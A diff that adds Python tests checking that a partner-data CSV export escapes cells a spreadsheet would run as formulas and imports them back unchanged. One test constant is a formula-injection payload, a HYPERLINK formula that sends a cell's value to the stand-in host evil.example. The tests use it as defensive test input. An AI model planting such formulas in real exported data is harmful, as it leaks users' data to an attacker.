@@ -5,6 +5,9 @@ imports back unchanged, and who may do what."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+import re
 from pathlib import Path
 from typing import Any
 
@@ -17,6 +20,7 @@ import cli
 from db.engine import Database
 from db.models import AuditEntry, Partner, Role
 from resolvers import imports
+from resolvers.cells import escape, unescape
 from resolvers.imports import FileFormat, import_partners, natural_key
 from resolvers.keys import Principal, issue_key
 from resolvers.writes import WriteContext
@@ -48,6 +52,16 @@ query Partners($names: [String!]) {
 PARTNER_CREATE = """
 mutation Create($input: PartnerCreateInput!) {
   partnerCreate(input: $input) { partner { id } userErrors { code } }
+}
+"""
+PARTNER_NAMED = """
+query Partner($name: String!) {
+  partners(where: {name: {eq: $name}}) { edges { node { id version } } }
+}
+"""
+RENAME = """
+mutation Rename($input: PartnerUpdateInput!) {
+  partnerUpdate(input: $input) { partner { name } userErrors { field message code } }
 }
 """
 CHANGES = """
@@ -574,3 +588,106 @@ async def test_a_downloaded_file_is_filtered_and_imports_back_unchanged(
     )
     assert unknown.status_code == 400
     assert (await client.get("/export/partners.xlsx", headers=headers)).status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+# Values that begin as a formula would, or with the quote that escapes one,
+# each with the cell the CSV export writes for it.
+CELLS = [
+    (FORMULA, "'" + FORMULA),
+    ("+34 600 000 000", "'+34 600 000 000"),
+    ("-Minus Lab", "'-Minus Lab"),
+    ("@Home Cities", "'@Home Cities"),
+    ("\tTabbed", "'\tTabbed"),
+    ("\rReturned", "'\rReturned"),
+    ("'=already quoted", "''=already quoted"),
+    ("'Tis a name", "''Tis a name"),
+    ("'", "''"),
+    ("-58.38", "-58.38"),
+    ("Plain name", "Plain name"),
+    ("", ""),
+]
+
+
+@pytest.mark.parametrize(("value", "cell"), CELLS)
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_escaped_reversibly(
+    value: str, cell: str
+) -> None:
+    assert escape(value) == cell
+    assert unescape(cell) == value
+
+
+def test_a_hand_written_quote_that_escapes_nothing_is_kept() -> None:
+    assert unescape("'Tis") == "'Tis"
+    assert unescape("'=1+1") == "=1+1"
+
+
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _runs_as_formula(cell: str) -> bool:
+    return cell[:1] in {"=", "+", "-", "@", "\t", "\r"} and not re.fullmatch(r"-[0-9.]+", cell)
+
+
+async def test_a_partner_named_as_a_formula_is_downloaded_as_text(
+    client: httpx.AsyncClient, keys: dict[str, str | None]
+) -> None:
+    # Given a partner key that names its own partner as a spreadsheet formula
+    cisco = (await _gql(client, PARTNER_NAMED, {"name": "Cisco"}, keys["partner"]))["data"]
+    node = cisco["partners"]["edges"][0]["node"]
+    variables = {"input": {"id": node["id"], "expectedVersion": node["version"], "name": FORMULA}}
+    renamed = (await _gql(client, RENAME, variables, keys["partner"]))["data"]["partnerUpdate"]
+    assert renamed == {"partner": {"name": FORMULA}, "userErrors": []}
+    headers = {"authorization": f"Bearer {keys['staff']}"}
+
+    # When staff download the partners as CSV
+    response = await client.get("/export/partners.csv", headers=headers)
+
+    # Then the name's cell begins with a quote, so that a spreadsheet shows it as text,
+    assert response.status_code == 200
+    rows = _csv_rows(response.text)
+    names = [row["name"] for row in rows]
+    assert "'" + FORMULA in names
+    # and no cell begins as a formula would (a negative number is no formula),
+    assert [cell for row in rows for cell in row.values() if _runs_as_formula(cell)] == []
+    # and the file imports back all unchanged, the name as the partner gave it
+    report = (await _import(client, keys["staff"], response.text))["report"]
+    assert (report["unchanged"], report["updated"], report["created"]) == (len(rows), 0, 0)
+    assert list(await _partners(client, keys["staff"], [FORMULA])) == [FORMULA]
+
+
+async def test_values_that_begin_like_formulas_make_the_round_trip_unchanged(
+    client: httpx.AsyncClient,
+    keys: dict[str, str | None],
+    hub_env: None,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    # Given partners whose values begin as formulas would, or with a quote
+    rows: list[dict[str, Any]] = [
+        {"name": "'=already quoted", "kind": "OTHER", "contactPhone": "+34 600 000 000"},
+        {"name": "-Minus Lab", "kind": "OTHER", "sector": "@home", "longitude": -58.38},
+        {"name": "'Tis a Partnership", "kind": "OTHER", "description": "=1+1"},
+    ]
+    created = await _import(client, keys["staff"], orjson.dumps(rows).decode(), "JSON")
+    assert created["report"]["created"] == 3
+    path = tmp_path / "partners.csv"
+
+    # When every partner is exported as CSV and the file imported again
+    assert await _metrohub("export", "partners", "--output", str(path)) == 0
+    capsys.readouterr()
+    status = await _metrohub("import", "partners", str(path))
+
+    # Then the file held each value escaped,
+    exported = {row["name"]: row for row in _csv_rows(path.read_text(encoding="utf-8"))}
+    assert exported["''=already quoted"]["contactPhone"] == "'+34 600 000 000"
+    assert exported["'-Minus Lab"]["sector"] == "'@home"
+    assert exported["'-Minus Lab"]["longitude"] == "-58.38"
+    assert exported["''Tis a Partnership"]["description"] == "'=1+1"
+    # and every row came back unchanged, the values as they were
+    output = capsys.readouterr().out.splitlines()
+    assert status == 0
+    assert output[-1] == "0 created, 0 updated, 42 unchanged, 0 rejected: applied."
+    partners = await _partners(client, keys["staff"], [row["name"] for row in rows])
+    assert sorted(partners) == sorted(row["name"] for row in rows)
